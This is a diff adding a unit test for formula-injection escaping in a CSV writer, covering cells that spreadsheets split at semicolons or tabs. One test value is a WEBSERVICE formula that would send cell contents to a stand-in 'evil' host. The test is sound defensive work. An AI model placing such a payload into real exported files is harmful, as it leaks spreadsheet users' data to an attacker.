@@ -87,3 +87,15 @@ test('what is written for spreadsheets has no formula, and is read as it was mea
   assert.equal(table(utf8("id,name\na,'=a\n")).rows[1].fields[1], '=a');
   assert.equal(written([['=1+1']]), '=1+1\n');
 });
+
+test('where a spreadsheet begins a new cell at a semicolon or a tab, there is no formula either', () => {
+  const cells = ['Foo;http://evil/?;=WEBSERVICE(B2&A3);x', 'a\t+1', '\t=1', 'a;"=1"', "a;'=1", '＝1', 'a;＠b', 'a;b', 'a; =1', "a;'b"];
+  const text = writtenForSpreadsheets([['id', ...cells]]);
+  assert.deepEqual([...records(text)][0].slice(1), [
+    "Foo;http://evil/?;'=WEBSERVICE(B2&A3);x", "a\t'+1", "'\t'=1", 'a;\'"=1"', "a;''=1", "'＝1", "a;'＠b", 'a;b', 'a; =1', "a;'b",
+  ]);
+  for (const separator of [';', '\t']) assert.deepEqual([...records(text, separator)][0].filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell)), []);
+  assert.deepEqual(table(utf8(text)).rows[0].fields.slice(1), cells);
+  assert.deepEqual(cells.map(isLikeFormula), [true, true, true, true, false, true, true, false, false, false]);
+  assert.deepEqual([...records(text)][0].filter(isLikeFormula), []);
+});
